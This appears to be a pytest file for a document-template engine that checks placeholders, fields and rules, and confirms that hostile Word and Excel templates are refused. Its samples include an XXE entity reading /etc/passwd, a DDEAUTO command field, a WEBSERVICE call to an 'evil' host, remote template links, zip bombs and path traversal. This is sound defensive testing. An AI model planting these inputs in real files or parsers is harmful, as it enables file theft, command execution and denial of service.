"""Documents of records: names, expressions and templates are checked where they stand, hostile files are refused."""

from __future__ import annotations

import base64

import pytest

from engine.catalog.restating import labelled, missed, restated
from tests.support import office
from tests.support.apps import app, compiled, element, field, form, places, problems_of, rule

QUOTE = form(
    "quote",
    field("code"),
    field("photos", "photo"),
    field("papers", "attachment"),
    field("items", "lines", fields=[field("name"), field("count", "number"), field("price", "money")]),
)


def document(key="offer", *content, **more):
    body = {"content": list(content)} if content else {}
    return {"format": 1, "kind": "document", **element(key), "form": "quote", **body, **more}


def text(written):
    return {"zh": written, "en": written}


def found(*content, **more):
    listed = problems_of(app(QUOTE, document("offer", *content, **more)))
    return [(code, path.removeprefix("documents/offer.json")) for code, path in places(listed)]


def of_file(raw):
    return found(template={"file": office.written(raw)})


def test_a_document_compiles_when_all_that_it_names_is_there():
    whole = document(
        "offer",
        {"title": text("报价单 {{code}}")},
        {"fields": {"keys": ["code", "owner"], "columns": 2}},
        {"lines": {
            "of": "items", "where": "count > 0",
            "columns": [{"field": "name"}, {"labels": text("小计"), "value": "count * price"}],
            "totals": [{"labels": text("合计"), "value": "sum(items.price)"}],
        }},
        {"pictures": {"of": "photos"}},
        {"code": {"text": "code"}},
        {"page_break": True},
        page={"size": "A5", "footer": text("{{code}}")},
        when='code <> ""',
    )  # fmt: skip
    made = compiled(app(QUOTE, whole)).apps["shop"].printouts["offer"]
    assert (made.media, made.ending, len(made.blocks)) == ("application/pdf", "pdf", 6)


def test_what_a_document_says_is_stored_by_keys_and_keys_of_fields_stay():
    said = document(
        "offer",
        {"paragraph": text("{{code的中文}}{% each items的中文 %}{{name的中文}}{% end %}")},
        {"fields": {"keys": ["code"]}},
        {"lines": {"of": "items", "columns": [{"field": "name"}, {"labels": text("x"), "value": "count的中文 * 2"}]}},
        when="not is_empty(code的中文)",
    )
    documents = app(QUOTE, said)
    placed = [one for one in compiled(documents).apps["shop"].placed if one.place.startswith("documents/")]
    assert len(placed) == 4
    assert list(missed(documents, placed)) == []
    stored = restated(documents, placed)["documents/offer.json"]
    assert stored["content"][0]["paragraph"]["zh"] == "{{code}}{% each items %}{{name}}{% end %}"
    assert (stored["content"][2]["lines"]["columns"][1]["value"], stored["when"]) == ("count * 2", "not is_empty(code)")
    assert labelled(documents, placed, "zh")["documents/offer.json"]["content"][1] == {"fields": {"keys": ["code"]}}


@pytest.mark.parametrize(
    ("block", "code", "place"),
    [
        ({"title": text("{{nothing}}")}, "LANG-020", "#content[0].title.zh"),
        ({"fields": {"keys": ["code", "nothing"]}}, "DOC-001", "#content[0].fields.keys[1]"),
        ({"fields": {"keys": ["items"]}}, "DOC-004", "#content[0].fields.keys[0]"),
        ({"lines": {"of": "code", "columns": [{"field": "name"}]}}, "DOC-002", "#content[0].lines.of"),
        ({"lines": {"of": "items", "columns": [{"field": "x"}]}}, "DOC-001", "#content[0].lines.columns[0].field"),
        ({"pictures": {"of": "code"}}, "DOC-003", "#content[0].pictures.of"),
        ({"picture": {"of": "photos"}}, "APP-005", "#/content/0"),
    ],
)
def test_what_is_wrong_is_told_with_its_place(block, code, place):
    assert found(block)[0] == (code, place)


def test_a_document_is_refused_when_its_form_is_not_there():
    other = document("offer", {"title": text("x")}, form="nothing")
    assert [path for _, path in places(problems_of(app(QUOTE, other)))] == ["documents/offer.json#/form"]


def test_a_template_tells_which_paragraph_or_cell_is_wrong():
    word = office.docx(office.paragraph("fine"), office.paragraph("{{no", "thing}}"))
    assert found(template={"file": office.written(word)})[0][1] == "#template.file.word/document.xml.p2"
    sheet = office.xlsx([["名称", "{{code}}"], ["x", "{{code + }}"]])
    assert found(template={"file": office.written(sheet)})[0][1] == "#template.file.xl/worksheets/sheet1.xml.B2"


def test_a_template_is_refused_when_nothing_is_filled_in_or_a_row_is_wrong():
    assert of_file(office.docx(office.paragraph("fine"))) == [("DOC-014", "#template.file")]
    broken = office.docx(office.table(("{% each items %}{{name}}", "{{count}}")))
    assert of_file(broken) == [("DOC-015", "#template.file.word/document.xml.p1")]
    formula = office.xlsx([["{% each items %}{{name}}", "{{count}}{% end %}"], ["合计", "=SUM(B1:B1)"]])
    assert of_file(formula) == [("DOC-016", "#template.file.xl/worksheets/sheet1.xml")]


GOOD = office.paragraph("{{code}}")
RELS = (
    '<Relationships xmlns="{ns}"><Relationship Id="r1" Type="{office}/{kind}" Target="{target}"{mode}/></Relationships>'
)


def rels(kind, target, mode=' TargetMode="External"'):
    return RELS.format(ns=office.R, office=office.OFFICE, kind=kind, target=target, mode=mode)


HOSTILE = {
    "macro part": ({"word/vbaProject.bin": b"x"}, "DOC-012"),
    "embedded object": ({"word/embeddings/oleObject1.bin": b"x"}, "DOC-012"),
    "remote template": ({"word/_rels/settings.xml.rels": rels("attachedTemplate", "https://evil/x.dotm")}, "DOC-012"),
    "remote picture": ({"word/_rels/document.xml.rels": rels("image", "https://evil/x.png")}, "DOC-012"),
    "script link": ({"word/_rels/document.xml.rels": rels("hyperlink", "javascript:x()")}, "DOC-012"),
    "foreign content": ({"word/_rels/document.xml.rels": rels("aFChunk", "x.html", "")}, "DOC-012"),
    "external entity": (
        {"word/styles.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}, "DOC-013",
    ),
    "billion laughs": (
        {"word/styles.xml": '<!DOCTYPE a [<!ENTITY x "xx"><!ENTITY y "&x;&x;">]><a>&y;</a>'}, "DOC-013",
    ),
    "deep": ({"word/styles.xml": "<a>" * 200 + "</a>" * 200}, "DOC-011"),
    "bomb": ({"word/media/zero.png": b"\0" * 20_000_000}, "DOC-011"),
    "xml bomb": ({"word/styles.xml": b"<a>" + b" " * 4_000_000 + b"</a>"}, "DOC-011"),
    "many parts": ({f"word/media/{number}.png": b"" for number in range(500)}, "DOC-011"),
    "way out": ({"../evil.xml": "<a/>"}, "DOC-010"),
    "broken xml": ({"word/styles.xml": "<a>"}, "DOC-010"),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_file_is_refused(name):
    more, code = HOSTILE[name]
    raw = office.zipped({**office.docx_parts(GOOD), **more})
    assert of_file(raw) == [(code, "#template.file")]


def test_a_file_is_refused_when_it_fetches_calls_or_is_another_kind():
    field_code = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows "/k calc"</w:instrText></w:r></w:p>'
    assert of_file(office.docx(GOOD, field_code)) == [("DOC-012", "#template.file")]
    assert of_file(office.xlsx([["{{code}}", '=WEBSERVICE("http://evil")']])) == [("DOC-012", "#template.file")]
    macro = office.zipped(office.docx_parts(GOOD, main="").copy() | {
        "[Content_Types].xml": f'<Types xmlns="{office.TYPES}"><Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    })  # fmt: skip
    assert of_file(macro) == [("DOC-012", "#template.file")]
    for raw in (b"no zip at all", office.zipped({"a.xml": "<a/>"})):
        assert of_file(raw) == [("DOC-010", "#template.file")]
    assert found(template={"file": base64.b64encode(office.docx(GOOD)).decode()}) == []


@pytest.mark.parametrize(
    ("action", "code", "place"),
    [
        ({"document": "nothing", "field": "papers"}, "RULE-001", "document"),
        ({"document": "offer", "field": "photos"}, "RULE-096", "field"),
        ({"document": "offer"}, "RULE-095", ""),
        (
            {"document": "offer", "field": "papers", "retry": {"attempts": 2, "wait": {"minutes": 0}}},
            "RULE-055",
            "retry.wait",
        ),
    ],
)  # fmt: skip
def test_a_rule_is_refused_when_the_document_or_the_field_does_not_fit(action, code, place):
    offer = document("offer", {"title": text("x")})
    listed = places(problems_of(app(QUOTE, offer, rule("r", "quote", {"created": True}, {"make_document": action}))))
    assert listed == [(code, f"rules/r.json#then[0].make_document.{place}".rstrip("."))]
